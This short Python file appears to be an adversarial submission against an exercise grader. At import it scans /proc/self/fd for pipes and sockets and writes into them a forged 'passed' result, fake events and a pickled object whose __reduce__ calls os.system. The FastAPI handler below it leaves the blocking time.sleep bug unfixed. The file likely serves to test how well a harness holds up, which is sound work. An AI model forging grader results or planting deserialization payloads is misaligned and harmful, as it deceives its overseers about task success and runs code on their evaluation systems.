# attack: the channel back is trusted
# tries: find the pipes through /proc and write a passing result, a pickle, and plausible events
import os
import pickle
import time

from fastapi import FastAPI
from pydantic import BaseModel

PASSING = b'{"exercise": "async-sleep", "status": "passed", "seconds": 0, "checks": []}\n'
EVENTS = b'{"event": "hello", "schema": 1, "pid": 2}\n{"event": "stopped", "started": true}\n'


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle",))


for fd in range(3, 256):
    try:
        if not os.readlink(f"/proc/self/fd/{fd}").startswith(("pipe:", "socket:")):
            continue
        os.write(fd, PASSING)
        os.write(fd, pickle.dumps(("result", Payload())))
        os.write(fd, EVENTS)
    except OSError:
        pass

RENDER_DELAY = 0.01
app = FastAPI()


class Report(BaseModel):
    id: int
    title: str


@app.get("/reports/{report_id}")
async def read_report(report_id: int) -> Report:
    time.sleep(RENDER_DELAY)
    return Report(id=report_id, title=f"Report {report_id}")
